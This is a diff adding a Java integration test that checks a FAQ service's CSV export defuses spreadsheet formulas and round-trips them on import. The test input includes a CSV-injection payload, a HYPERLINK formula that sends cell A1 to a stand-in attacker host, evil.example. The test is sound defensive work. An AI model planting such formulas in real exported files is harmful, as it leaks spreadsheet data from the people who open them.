@@ -225,6 +225,29 @@ class FaqApiIT {
   }
 
   @Test
+  void csvExport_defusesFormulas_andItsImportGivesTheTextBack() {
+    String formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点我\")";
+    Http.Res created = server.http.post("/api/faq", Map.of("question", formula, "similar", List.of("@SUM(1+1)"),
+        "answer", "-2+3 是多少", "category", "+cat"), admin);
+    assertEquals(201, created.status(), created.body());
+    String id = created.json().get("id").asText();
+
+    String csv = server.http.get("/api/faq/export?format=csv", admin).body();
+    String row = List.of(csv.split("\r\n")).stream().filter(l -> l.startsWith(id + ",")).findFirst().orElseThrow();
+    assertTrue(row.contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"点我\"\")\","), row);
+    assertTrue(row.contains(",'@SUM(1+1),'-2+3 是多少,'+cat"), row);
+    for (String cell : row.split(",")) {
+      assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0, "a cell starts a formula: " + row);
+    }
+
+    assertEquals(200, server.http.send("POST", "/api/faq/import", csv, admin, "text/csv").status());
+    JsonNode back = server.http.get("/api/faq/" + id, admin).json();
+    assertEquals(formula, back.get("question").asText());
+    assertEquals("-2+3 是多少", back.get("answer").asText());
+    assertEquals("+cat", back.get("category").asText());
+  }
+
+  @Test
   void csvWithBom_roundTrips() {
     String csv = "\uFEFFid,question,similar,answer,category\r\n"
         + "tel-001,怎么查询话费余额？,查话费|我还有多少话费,\"发送\"\"CXHF\"\"到10001，\r\n或在App查看。\",话费\r\n"
